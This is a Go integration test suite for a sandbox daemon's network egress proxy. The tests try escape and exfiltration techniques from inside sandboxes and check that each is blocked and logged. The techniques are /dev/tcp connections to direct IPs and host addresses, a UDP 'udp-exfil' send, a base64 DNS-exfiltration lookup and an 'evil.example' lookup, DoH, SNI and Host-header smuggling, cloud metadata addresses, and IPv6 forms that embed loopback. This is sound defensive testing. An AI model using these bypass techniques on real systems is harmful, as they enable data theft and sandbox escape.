package daemon_test

import (
	"bufio"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"

	v1 "github.com/moatdev/moat/api/v1"
	"github.com/moatdev/moat/internal/daemon"
	"github.com/moatdev/moat/internal/egress"
	"github.com/moatdev/moat/internal/testutil"
)

// The network boundary, end to end: real sandboxes (runc and runsc) reaching "internet"
// servers that are in fact listeners on 127.0.0.0/8 of this machine, named through the
// daemon's --egress-hosts and a test DNS upstream. Every refusal is asserted where it
// matters: at the receiving server's log and in the sandbox's egress log.

// netLog records what the test's upstream servers saw.
type netLog struct {
	mu      sync.Mutex
	entries []string
}

func (l *netLog) add(format string, args ...any) {
	l.mu.Lock()
	l.entries = append(l.entries, fmt.Sprintf(format, args...))
	l.mu.Unlock()
}

func (l *netLog) all() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]string(nil), l.entries...)
}

func (l *netLog) contains(s string) bool {
	for _, e := range l.all() {
		if strings.Contains(e, s) {
			return true
		}
	}
	return false
}

// internet is the fake outside world of one test.
type internet struct {
	log                         *netLog
	httpPort, tlsPort, echoPort int
	deniedPort                  int
	dnsAddr                     string
	hostsFile                   string
	hostListener                net.Listener // on every host address: must never be reached
	loopPort                    int          // a listener on 127.0.0.1 that IPv6 answers point at: never reached
}

// embeddedAnswers are names whose only upstream DNS answer is an IPv6 address carrying
// 127.0.0.1, each with what the proxy must say when it refuses it (127.0.0.1 is one of the
// host's own addresses, which is checked first).
var embeddedAnswers = map[string]struct{ aaaa, reason string }{
	"mapped.test":    {"::ffff:127.0.0.1", "resolves to 127.0.0.1, one of the host's own addresses"},
	"compat.test":    {"::7f00:1", "carrying 127.0.0.1 (IPv4-compatible), one of the host's own addresses"},
	"nat64.test":     {"64:ff9b::7f00:1", "carrying 127.0.0.1 (NAT64), one of the host's own addresses"},
	"sixtofour.test": {"2002:7f00:1::", "carrying 127.0.0.1 (6to4), one of the host's own addresses"},
	"teredo.test":    {"2001:0:4136:e378:8000:63bf:80ff:fffe", "carrying 127.0.0.1 (Teredo client), one of the host's own addresses"},
}

func newInternet(t *testing.T) *internet {
	t.Helper()
	in := &internet{log: &netLog{}}
	listen := func(addr string) net.Listener {
		ln, err := net.Listen("tcp4", addr)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { ln.Close() })
		return ln
	}
	port := func(ln net.Listener) int { return ln.Addr().(*net.TCPAddr).Port }

	// allowed.test = 127.0.0.2: HTTP, HTTPS and a line echo protocol.
	h := listen("127.0.0.2:0")
	in.httpPort = port(h)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		in.log.add("http host=%s path=%s auth=%s", r.Host, r.URL.Path, r.Header.Get("Authorization"))
		fmt.Fprintf(w, "hello from %s\n", r.Host)
	})}
	go srv.Serve(h)
	t.Cleanup(func() { srv.Close() })

	tl := listen("127.0.0.2:0")
	in.tlsPort = port(tl)
	cert := selfSigned(t)
	tsrv := &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			in.log.add("https host=%s path=%s", r.Host, r.URL.Path)
			fmt.Fprintln(w, "hello over tls")
		}),
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}, GetConfigForClient: func(hi *tls.ClientHelloInfo) (*tls.Config, error) {
			in.log.add("tls sni=%s", hi.ServerName)
			return nil, nil
		}},
	}
	go tsrv.ServeTLS(tl, "", "")
	t.Cleanup(func() { tsrv.Close() })

	el := listen("127.0.0.2:0")
	in.echoPort = port(el)
	go func() {
		for {
			c, err := el.Accept()
			if err != nil {
				return
			}
			in.log.add("echo connect")
			go func() {
				defer c.Close()
				r := bufio.NewReader(c)
				for {
					line, err := r.ReadString('\n')
					if err != nil {
						in.log.add("echo closed")
						return
					}
					in.log.add("echo line=%s", strings.TrimSpace(line))
					fmt.Fprintf(c, "echo: %s", line)
				}
			}()
		}
	}()

	// denied.test = 127.0.0.3: it must never see a connection.
	dl := listen("127.0.0.3:0")
	in.deniedPort = port(dl)
	go func() {
		for {
			c, err := dl.Accept()
			if err != nil {
				return
			}
			in.log.add("DENIED HOST REACHED from %s", c.RemoteAddr())
			c.Close()
		}
	}()

	// The upstream DNS server the proxy resolves with: private.test and metadata.test
	// resolve to addresses the proxy must refuse. It logs every query.
	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	in.dnsAddr = pc.LocalAddr().String()
	ds := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		m := new(dns.Msg)
		m.SetReply(q)
		name := q.Question[0].Name
		in.log.add("dns query=%s", name)
		ip := map[string]string{"private.test.": "10.0.0.5", "metadata.test.": "169.254.169.254"}[name]
		six, hasSix := embeddedAnswers[strings.TrimSuffix(name, ".")]
		switch {
		case hasSix && q.Question[0].Qtype == dns.TypeAAAA:
			m.Answer = append(m.Answer, &dns.AAAA{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeAAAA, Class: dns.ClassINET, Ttl: 60}, AAAA: net.ParseIP(six.aaaa)})
		case hasSix: // no A record
		case ip != "" && q.Question[0].Qtype == dns.TypeA:
			m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.ParseIP(ip)})
		case ip == "":
			m.Rcode = dns.RcodeNameError
		}
		w.WriteMsg(m)
	})}
	go ds.ActivateAndServe()
	t.Cleanup(func() { ds.Shutdown() })

	ll := listen("127.0.0.1:0")
	in.loopPort = port(ll)
	go func() {
		for {
			c, err := ll.Accept()
			if err != nil {
				return
			}
			in.log.add("LOOPBACK LISTENER REACHED from %s", c.RemoteAddr())
			c.Close()
		}
	}()

	in.hostListener = listen("0.0.0.0:0")
	go func() {
		for {
			c, err := in.hostListener.Accept()
			if err != nil {
				return
			}
			in.log.add("HOST LISTENER REACHED from %s", c.RemoteAddr())
			c.Close()
		}
	}()

	in.hostsFile = filepath.Join(t.TempDir(), "hosts")
	os.WriteFile(in.hostsFile, []byte("# test upstreams\n127.0.0.2 allowed.test doh.test\n127.0.0.3 denied.test\n"), 0o644)
	return in
}

func selfSigned(t *testing.T) tls.Certificate {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "allowed.test"},
		DNSNames: []string{"allowed.test", "doh.test"}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
	}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: key}
}

func (in *internet) configure(c *daemon.Config) {
	data, _ := os.ReadFile(in.hostsFile)
	hosts, err := egress.ParseHosts(data)
	if err != nil {
		panic(err)
	}
	c.EgressHosts, c.EgressDNS = hosts, in.dnsAddr
}

// egressLog waits for the sandbox's egress log to contain an entry matching fn.
func (e *env) egressEntry(id string, fn func(v1.EgressEntry) bool) (v1.EgressEntry, bool) {
	e.t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for {
		e.d.Egress.Flush()
		list, err := e.c.Egress(context.Background(), id, 0)
		if err != nil {
			e.t.Fatalf("egress log: %v", err)
		}
		for _, x := range list {
			if fn(x) {
				return x, true
			}
		}
		if time.Now().After(deadline) {
			for _, x := range list {
				e.t.Logf("egress: %+v", x)
			}
			return v1.EgressEntry{}, false
		}
		time.Sleep(50 * time.Millisecond)
	}
}

func (e *env) expectBlocked(id, what string, fn func(v1.EgressEntry) bool) {
	e.t.Helper()
	if x, ok := e.egressEntry(id, func(x v1.EgressEntry) bool { return !x.Allowed && fn(x) }); !ok {
		e.t.Errorf("%s: no blocked entry in the egress log", what)
	} else {
		e.t.Logf("%s: blocked: %s", what, x.Reason)
	}
}

func TestNetworkBoundary(t *testing.T) {
	in := newInternet(t)
	e := newEnvWith(t, in.configure)
	for _, rt := range runtimesUnderTest(t) {
		e.run(rt, func(t *testing.T, e *env) { networkBoundary(t, e, in, rt) })
	}
}

func networkBoundary(t *testing.T, e *env, in *internet, rt string) {
	sb := e.create(v1.CreateSandboxRequest{Runtime: rt, Policy: &v1.Policy{
		Phase: "run",
		Phases: map[string]v1.PolicyRules{
			"run":    {Allow: []string{"allowed.test", "private.test", "metadata.test", "mapped.test", "compat.test", "nat64.test", "sixtofour.test", "teredo.test"}},
			"closed": {Net: "deny-all"},
		},
	}})
	curl := func(args string) result {
		return e.sh(sb.ID, "", "curl -sS --max-time 5 "+args)
	}

	e.run("allowed HTTP", func(t *testing.T, e *env) {
		r := curl(fmt.Sprintf("http://allowed.test:%d/hello", in.httpPort))
		if r.code != 0 || !strings.Contains(r.stdout, "hello from allowed.test") {
			t.Fatalf("curl: %+v", r)
		}
		if !in.log.contains(fmt.Sprintf("http host=allowed.test:%d path=/hello", in.httpPort)) {
			t.Errorf("upstream did not log the request: %v", in.log.all())
		}
		x, ok := e.egressEntry(sb.ID, func(x v1.EgressEntry) bool {
			return x.Allowed && x.Proto == "tcp" && x.Name == "allowed.test" && x.Port == in.httpPort && !x.Open
		})
		if !ok || x.BytesUp == 0 || x.BytesDown == 0 || !strings.HasPrefix(x.Upstream, "127.0.0.2:") {
			t.Errorf("egress entry %+v", x)
		}
	})

	e.run("egress log follow", func(t *testing.T, e *env) {
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		defer cancel()
		before, err := e.c.Egress(ctx, sb.ID, 0)
		if err != nil {
			t.Fatal(err)
		}
		last := before[len(before)-1].Seq
		got := make(chan v1.EgressEntry, 100)
		go e.c.FollowEgress(ctx, sb.ID, 0, func(x v1.EgressEntry) error { got <- x; return nil })
		curl(fmt.Sprintf("http://allowed.test:%d/followed", in.httpPort))
		for {
			select {
			case x := <-got:
				// The entry arrives open or finished; a finished one has its bytes.
				if x.Proto == "tcp" && x.Allowed && x.Port == in.httpPort && !x.Open && x.BytesDown > 0 && x.Seq > last {
					return
				}
			case <-ctx.Done():
				t.Fatal("follow did not deliver the finished connection")
			}
		}
	})

	e.run("allowed HTTPS passthrough", func(t *testing.T, e *env) {
		r := curl(fmt.Sprintf("-k https://allowed.test:%d/tls", in.tlsPort))
		if r.code != 0 || !strings.Contains(r.stdout, "hello over tls") {
			t.Fatalf("curl: %+v", r)
		}
		if !in.log.contains("tls sni=allowed.test") {
			t.Errorf("upstream saw no SNI allowed.test: %v", in.log.all())
		}
	})

	e.run("allowed raw TCP", func(t *testing.T, e *env) {
		// Python, not bash's /dev/tcp: under gVisor's host network a blocking read of an
		// idle socket can return EAGAIN, which ends bash's read at once.
		out := e.mustSh(sb.ID, fmt.Sprintf(`python3 -c 'import socket
s = socket.create_connection(("allowed.test", %d), timeout=10); s.sendall(b"ping\n"); print(s.makefile().readline().strip())'`, in.echoPort))
		if out != "echo: ping\n" || !in.log.contains("echo line=ping") {
			t.Errorf("echo: %q, upstream %v", out, in.log.all())
		}
	})

	e.run("denied name", func(t *testing.T, e *env) {
		r := curl(fmt.Sprintf("http://denied.test:%d/", in.deniedPort))
		if r.code == 0 {
			t.Errorf("curl to a denied name succeeded: %+v", r)
		}
		e.expectBlocked(sb.ID, "denied name", func(x v1.EgressEntry) bool { return x.Proto == "dns" && x.Name == "denied.test" })
	})

	e.run("direct IP", func(t *testing.T, e *env) {
		for _, addr := range []string{"192.0.2.7:80", "198.18.0.1:15001", "198.18.0.1:49983"} {
			if r := e.sh(sb.ID, "", "timeout 5 bash -c 'exec 3<>/dev/tcp/"+strings.Replace(addr, ":", "/", 1)+" && echo hi >&3 && read -t 2 x <&3'"); r.code == 0 {
				t.Errorf("direct connection to %s succeeded", addr)
			}
			host, port, _ := net.SplitHostPort(addr)
			e.expectBlocked(sb.ID, "direct "+addr, func(x v1.EgressEntry) bool {
				return x.Proto == "tcp" && x.Addr == host && fmt.Sprint(x.Port) == port && strings.Contains(x.Reason, "direct IP")
			})
		}
	})

	e.run("host addresses", func(t *testing.T, e *env) {
		// Every address of the host, on the port of a listener bound to all of them.
		hostPort := in.hostListener.Addr().(*net.TCPAddr).Port
		for _, a := range hostIPv4s() {
			e.sh(sb.ID, "", fmt.Sprintf("timeout 3 bash -c 'exec 3<>/dev/tcp/%s/%d'", a, hostPort))
		}
	})

	e.run("UDP, ICMP and IPv6", func(t *testing.T, e *env) {
		// A UDP listener on allowed.test's address: the sandbox sends to the synthetic
		// address DNS gave it, and to the gateway.
		u, err := net.ListenPacket("udp4", "127.0.0.2:0")
		if err != nil {
			t.Fatal(err)
		}
		defer u.Close()
		uport := u.LocalAddr().(*net.UDPAddr).Port
		script := fmt.Sprintf(`
import socket, sys
res = []
ip = socket.gethostbyname("allowed.test")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for dst in [(ip, %d), ("198.18.0.1", %d), ("192.0.2.9", 9999)]:
    s.sendto(b"udp-exfil", dst)
s.settimeout(1)
try:
    s.recvfrom(100); res.append("udp-reply")
except Exception:
    pass
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); res.append("icmp-raw-socket")
except OSError:
    pass
# A ping socket is refused by S's ping_group_range under runc and runsc 2022 (the host
# kernel's stack); gVisor's own stack makes one. Either way no echo may be answered.
try:
    p = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
except OSError:
    p = None
if p:
    p.settimeout(1)
    for dst in (ip, "192.0.2.9"):
        try:
            p.sendto(b"\x08\x00\x00\x00\x00\x01\x00\x01moat", (dst, 0))
        except OSError:
            pass
    try:
        p.recvfrom(100); res.append("icmp-reply")
    except Exception:
        pass
try:
    c = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); c.settimeout(2); c.connect(("2001:db8::1", 80)); res.append("ipv6-connected")
except OSError:
    pass
print(",".join(res) or "none")
`, uport, uport)
		out := e.mustSh(sb.ID, "python3 -c '"+strings.ReplaceAll(script, "'", `'"'"'`)+"'")
		if strings.TrimSpace(out) != "none" {
			t.Errorf("the sandbox got through: %s", out)
		}
		u.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
		if n, from, err := u.ReadFrom(make([]byte, 100)); err == nil {
			t.Errorf("UDP listener received %d bytes from %s", n, from)
		}
	})

	e.run("DNS never forwarded", func(t *testing.T, e *env) {
		// Data smuggled in a name of a denied domain, and an ordinary denied lookup.
		r := e.sh(sb.ID, "", `python3 -c 'import socket
for n in ["c2VjcmV0.exfil.denied.test", "evil.example"]:
    try: socket.gethostbyname(n); print("resolved", n)
    except OSError: pass'`)
		if strings.Contains(r.stdout, "resolved") {
			t.Errorf("a denied name resolved: %s", r.stdout)
		}
		for _, q := range in.log.all() {
			if strings.Contains(q, "exfil") || strings.Contains(q, "evil.example") || strings.Contains(q, "denied.test") {
				t.Errorf("the upstream DNS server saw %q", q)
			}
		}
		e.expectBlocked(sb.ID, "exfil name", func(x v1.EgressEntry) bool { return x.Proto == "dns" && strings.HasPrefix(x.Name, "c2vjcmv0.exfil") })
	})

	e.run("DNS over HTTPS to a host not allowed", func(t *testing.T, e *env) {
		r := curl(fmt.Sprintf("-k -H 'accept: application/dns-message' 'https://doh.test:%d/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUDY29tAAABAAE'", in.tlsPort))
		if r.code == 0 || in.log.contains("sni=doh.test") {
			t.Errorf("DoH to doh.test got through: %+v", r)
		}
	})

	e.run("SNI of a denied name to an allowed address", func(t *testing.T, e *env) {
		ip := strings.TrimSpace(e.mustSh(sb.ID, `getent hosts allowed.test | cut -d" " -f1`))
		r := curl(fmt.Sprintf("-k --resolve doh.test:%d:%s https://doh.test:%d/", in.tlsPort, ip, in.tlsPort))
		if r.code == 0 || in.log.contains("sni=doh.test") {
			t.Errorf("SNI doh.test to allowed.test's address got through: %+v", r)
		}
		e.expectBlocked(sb.ID, "SNI mismatch", func(x v1.EgressEntry) bool { return strings.Contains(x.Reason, "doh.test") })
	})

	e.run("SNI of an allowed name to another address", func(t *testing.T, e *env) {
		r := curl(fmt.Sprintf("-k --resolve allowed.test:%d:192.0.2.8 https://allowed.test:%d/reverse", in.tlsPort, in.tlsPort))
		if r.code == 0 || in.log.contains("path=/reverse") {
			t.Errorf("SNI allowed.test to 192.0.2.8 got through: %+v", r)
		}
	})

	e.run("HTTP Host of a denied name", func(t *testing.T, e *env) {
		r := curl(fmt.Sprintf("-H 'Host: denied.test' http://allowed.test:%d/smuggled", in.httpPort))
		if r.code == 0 && strings.Contains(r.stdout, "hello") || in.log.contains("path=/smuggled") {
			t.Errorf("Host: denied.test got through: %+v", r)
		}
		e.expectBlocked(sb.ID, "Host mismatch", func(x v1.EgressEntry) bool { return strings.Contains(x.Reason, "denied.test") && x.Proto == "tcp" })
	})

	e.run("allowed names resolving to private and metadata addresses", func(t *testing.T, e *env) {
		for name, why := range map[string]string{"private.test": "private", "metadata.test": "metadata"} {
			if r := curl(fmt.Sprintf("http://%s/", name)); r.code == 0 {
				t.Errorf("%s: curl succeeded", name)
			}
			e.expectBlocked(sb.ID, name, func(x v1.EgressEntry) bool {
				return x.Proto == "tcp" && x.Name == name && strings.Contains(x.Reason, why)
			})
			if !in.log.contains("dns query=" + name) {
				t.Errorf("the proxy did not resolve %s upstream itself", name)
			}
		}
	})

	e.run("allowed names whose IPv6 answers carry a loopback address", func(t *testing.T, e *env) {
		// The proxy resolves A and AAAA; each name's only answer is an IPv6 form of
		// 127.0.0.1. None may be dialled: the connection is refused with the form named.
		for name, want := range embeddedAnswers {
			if r := curl(fmt.Sprintf("http://%s:%d/embedded", name, in.loopPort)); r.code == 0 {
				t.Errorf("%s: curl succeeded: %+v", name, r)
			}
			e.expectBlocked(sb.ID, name, func(x v1.EgressEntry) bool {
				return x.Proto == "tcp" && x.Name == name && strings.Contains(x.Reason, want.reason)
			})
			if !in.log.contains("dns query=" + name + ".") {
				t.Errorf("the proxy did not resolve %s upstream itself", name)
			}
		}
		e.d.Egress.Flush()
		list, err := e.c.Egress(context.Background(), sb.ID, 0)
		if err != nil {
			t.Fatal(err)
		}
		for _, x := range list {
			if _, ok := embeddedAnswers[x.Name]; ok && x.Proto == "tcp" && (x.Allowed || x.Upstream != "") {
				t.Errorf("a connection to %s was allowed or dialled: %+v", x.Name, x)
			}
		}
	})

	e.run("phase switch cuts open connections", func(t *testing.T, e *env) {
		// A background reader holds a connection open and reports when it is cut. (It
		// polls before reading: gVisor's host-network sockets answer a plain blocking
		// read with EAGAIN once idle, which would end a bash read loop by itself.)
		holder := fmt.Sprintf(`import socket
s = socket.create_connection(("allowed.test", %d)); s.settimeout(60)
s.sendall(b"hold\n"); print(s.recv(100).decode().strip(), flush=True)
while True:
    try:
        if not s.recv(100): break
    except OSError: break
print("CUT", flush=True)`, in.echoPort)
		e.mustSh(sb.ID, "cat > /tmp/hold.py <<'EOF'\n"+holder+"\nEOF\n"+`setsid python3 /tmp/hold.py > /tmp/hold.log 2>&1 < /dev/null &
for i in $(seq 50); do grep -q "echo: hold" /tmp/hold.log && exit 0; sleep 0.1; done; cat /tmp/hold.log; exit 1`)
		res, err := e.c.SetPolicy(context.Background(), sb.ID, v1.SetPolicyRequest{Phase: "closed"})
		if err != nil {
			t.Fatal(err)
		}
		if res.ConnectionsCut != 1 || res.Sandbox.Policy.Phase != "closed" {
			t.Errorf("SetPolicy: %+v", res)
		}
		e.mustSh(sb.ID, `for i in $(seq 50); do grep -q CUT /tmp/hold.log && exit 0; sleep 0.1; done; cat /tmp/hold.log; exit 1`)
		if !in.log.contains("echo closed") {
			t.Errorf("upstream still holds the connection")
		}
		// New connections to the once-allowed name are refused at DNS and at the proxy.
		if r := curl(fmt.Sprintf("http://allowed.test:%d/after", in.httpPort)); r.code == 0 || in.log.contains("path=/after") {
			t.Errorf("allowed.test reachable in the closed phase: %+v", r)
		}
		if _, err := e.c.SetPolicy(context.Background(), sb.ID, v1.SetPolicyRequest{Phase: "no-such-phase"}); err == nil {
			t.Errorf("switching to an unknown phase succeeded")
		}
	})

	for _, s := range in.log.all() {
		if strings.Contains(s, "REACHED") {
			t.Errorf("upstream log: %s", s)
		}
	}
}

// TestEgressDefaultDenyAndAllowAll: a sandbox created without a policy reaches nothing,
// and allow-all still refuses the host's own and private addresses.
func TestEgressDefaultDenyAndAllowAll(t *testing.T) {
	testutil.RequiresRoot(t)
	in := newInternet(t)
	e := newEnvWith(t, in.configure)
	def := e.create(v1.CreateSandboxRequest{})
	if def.Policy.Phase != "run" || def.Policy.Phases["run"].Net != "deny-all" {
		t.Errorf("default policy = %+v", def.Policy)
	}
	if r := e.sh(def.ID, "", fmt.Sprintf("curl -sS --max-time 5 http://allowed.test:%d/", in.httpPort)); r.code == 0 {
		t.Errorf("default sandbox reached allowed.test: %+v", r)
	}
	// A policy without a phase starts in "run", where the main command runs, even when it
	// has a setup phase (TestPhasesWithoutSetup checks the verdicts).
	phased := e.create(v1.CreateSandboxRequest{Policy: &v1.Policy{Phases: map[string]v1.PolicyRules{"setup": {Allow: []string{"registries"}}, "run": {}}}})
	if phased.Policy.Phase != "run" {
		t.Errorf("initial phase = %q, want run", phased.Policy.Phase)
	}
	if _, err := e.c.Create(context.Background(), v1.CreateSandboxRequest{Policy: &v1.Policy{Phases: map[string]v1.PolicyRules{"run": {Allow: []string{"https://x.test/"}}}}}); err == nil || !strings.Contains(err.Error(), "https://x.test/") {
		t.Errorf("a bad rule: %v", err)
	}
	open := e.create(v1.CreateSandboxRequest{Policy: &v1.Policy{Phase: "run", Phases: map[string]v1.PolicyRules{"run": {Net: "allow-all"}}}})
	if r := e.sh(open.ID, "", fmt.Sprintf("curl -sS --max-time 5 http://allowed.test:%d/open", in.httpPort)); r.code != 0 {
		t.Errorf("allow-all sandbox could not reach allowed.test: %+v", r)
	}
	hostPort := in.hostListener.Addr().(*net.TCPAddr).Port
	for _, a := range hostIPv4s() {
		e.sh(open.ID, "", fmt.Sprintf("timeout 3 bash -c 'exec 3<>/dev/tcp/%s/%d'", a, hostPort))
		e.expectBlocked(open.ID, "host address "+a.String(), func(x v1.EgressEntry) bool { return x.Addr == a.String() })
	}
	if r := e.sh(open.ID, "", "curl -sS --max-time 5 http://private.test/"); r.code == 0 {
		t.Errorf("allow-all reached private.test")
	}
	for _, s := range in.log.all() {
		if strings.Contains(s, "REACHED") {
			t.Errorf("upstream log: %s", s)
		}
	}
}

// TestEgressWarmPoolAndRestart: a warm sandbox handed over with a policy gets that policy
// at once, and a daemon restart serves every running sandbox's boundary again with its
// stored policy and phase (while the daemon is down, nothing gets out).
func TestEgressWarmPoolAndRestart(t *testing.T) {
	in := newInternet(t)
	configure := func(c *daemon.Config) { in.configure(c); c.Warm = map[string]int{"runc": 1} }
	e := newEnvWith(t, configure)
	testutil.WaitFor(t, 60*time.Second, "the warm pool to fill", func() bool { return len(e.warmIDs()) == 1 })
	warm := e.warmIDs()[0]
	sb := e.create(v1.CreateSandboxRequest{DiskBytes: 1 << 30, MemoryBytes: 2 << 30, Policy: &v1.Policy{
		Phase: "run", Phases: map[string]v1.PolicyRules{"run": {Allow: []string{"allowed.test"}}},
	}})
	if sb.ID != warm {
		t.Fatalf("create did not claim the warm sandbox %s (got %s)", warm, sb.ID)
	}
	get := func(path string) result {
		return e.sh(sb.ID, "", fmt.Sprintf("curl -sS --max-time 5 http://allowed.test:%d%s", in.httpPort, path))
	}
	if r := get("/claimed"); r.code != 0 || !in.log.contains("path=/claimed") {
		t.Fatalf("claimed warm sandbox cannot reach allowed.test: %+v", r)
	}

	e.stop()
	e.start(filepath.Join(testutil.Binaries(t), "moat-init"), configure)
	if r := get("/restarted"); r.code != 0 || !in.log.contains("path=/restarted") {
		t.Errorf("after a daemon restart: %+v", r)
	}
	if r := e.sh(sb.ID, "", fmt.Sprintf("curl -sS --max-time 5 http://denied.test:%d/", in.deniedPort)); r.code == 0 {
		t.Errorf("after a restart a denied name is reachable")
	}
}

// hostIPv4s lists the host's own IPv4 addresses but loopback.
func hostIPv4s() []netip.Addr {
	addrs, _ := net.InterfaceAddrs()
	var out []netip.Addr
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() && !p.Addr().IsLoopback() {
			out = append(out, p.Addr())
		}
	}
	return out
}
